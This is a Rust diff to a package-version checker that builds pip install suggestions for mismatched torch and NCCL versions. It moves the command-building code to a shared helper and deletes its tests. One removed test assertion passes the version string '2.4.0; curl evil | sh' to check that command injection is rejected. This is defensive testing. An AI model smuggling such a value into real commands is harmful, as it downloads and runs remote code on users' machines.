@@ -4,7 +4,7 @@ use std::collections::BTreeMap;
 
 use super::super::super::compare::{Compared, minor};
 use super::super::super::{Seen, shell_word};
-use super::super::python::{FATAL, is_version};
+use super::super::python::{FATAL, pip_words};
 use super::Tried;
 use crate::domain::doctor::Verdict;
 
@@ -49,7 +49,8 @@ pub(super) fn judge(tried: &[Tried], all: &All<'_>) -> Option<Verdict> {
         let Some(difference) = versions.difference(own) else { continue };
         differ.push(format!("{name} {version} ({difference})"));
         is_fatal |= name == NCCL || FATAL.contains(&name);
-        install.extend(versions.wanted(own).and_then(|wanted| install_words(name, own, wanted)));
+        let wanted = versions.wanted(own).filter(|_| name != PYTHON && name != NCCL);
+        install.extend(wanted.and_then(|wanted| pip_words(name, own, wanted)));
     }
     if differ.is_empty() {
         return None;
@@ -69,21 +70,6 @@ pub(super) fn judge(tried: &[Tried], all: &All<'_>) -> Option<Verdict> {
         Verdict::look(seen, cause, remedy.clone())
     };
     Some(if install.is_empty() { verdict } else { verdict.fixed_there(remedy) })
-}
-
-/// What pip is told to install a version in the place of another one, where it can: builds of torch for one CUDA are in an index of
-/// their own.
-fn install_words(name: &str, own: &str, wanted: &str) -> Option<String> {
-    if [PYTHON, NCCL].contains(&name) || !is_version(wanted) {
-        return None;
-    }
-    let Some((_, build)) = wanted.split_once('+') else {
-        // a build of a version is that one to `==`, and nothing would be installed
-        let is_build = own.strip_prefix(wanted).is_some_and(|rest| rest.starts_with('+'));
-        return Some(format!("{name}{}{wanted}", if is_build { "===" } else { "==" }));
-    };
-    let is_indexed = name == "torch" && ["cu", "cpu", "rocm"].iter().any(|of| build.starts_with(of));
-    is_indexed.then(|| format!("{name}=={wanted} --extra-index-url https://download.pytorch.org/whl/{build}"))
 }
 
 #[cfg(test)]
@@ -140,17 +126,5 @@ mod tests {
         let red = last(&nccl("2.20.5"), &nccl("2.21.5")).unwrap();
         assert_eq!((red.mark, red.fix.is_none()), (Mark::Bad, true));
         assert_eq!(last(&nccl("2.20.5"), &nccl("2.20.5")), None);
-    }
-
-    #[test]
-    fn a_build_is_installed_from_where_it_is() {
-        let of = |wanted| install_words("torch", "2.4.0+cpu", wanted);
-        let index = "torch==2.4.0+cu121 --extra-index-url https://download.pytorch.org/whl/cu121";
-        assert_eq!(of("2.4.0+cu121").as_deref(), Some(index));
-        assert_eq!(of("2.4.0a0+07cecf4168.nv24.5"), None, "NVIDIA's own is in an image alone");
-        assert_eq!(of("2.4.0; curl evil | sh"), None);
-        assert_eq!(of("2.4.0").as_deref(), Some("torch===2.4.0"), "2.4.0+cpu is 2.4.0 to pip");
-        assert_eq!(of("2.4").as_deref(), Some("torch==2.4"));
-        assert_eq!(install_words("numpy", "2.0.1", "1.26.4").as_deref(), Some("numpy==1.26.4"));
     }
 }
